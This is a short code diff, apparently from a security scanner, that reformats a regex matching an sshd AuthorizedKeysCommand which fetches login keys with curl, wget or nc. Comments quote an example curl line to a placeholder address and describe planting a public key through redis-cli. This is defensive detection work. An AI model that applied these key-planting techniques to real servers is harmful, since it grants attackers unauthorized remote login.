@@ -3237,7 +3237,8 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         # sshd told to fetch every login's keys from a web address (`AuthorizedKeysCommand
         # /usr/bin/curl -fsS https://198.51.100.8/keys/%u`): whoever serves it can log in
         re.compile(
-            r"\bAuthorizedKeysCommand\s+['\"]?\S*\b(?:curl|wget|fetch|nc|ncat)\b[^\n]*?(?:https?|ftp)://", _I
+            r"\bAuthorizedKeysCommand\s+['\"]?\S*\b(?:curl|wget|fetch|nc|ncat)\b[^\n]*?(?:https?|ftp)://",
+            _I,
         ),
         # one's public key stored as a value in a remote key-value store (`... | redis-cli -x set`)
         # a value padded with blank lines so that it survives as a line of the store's dump file
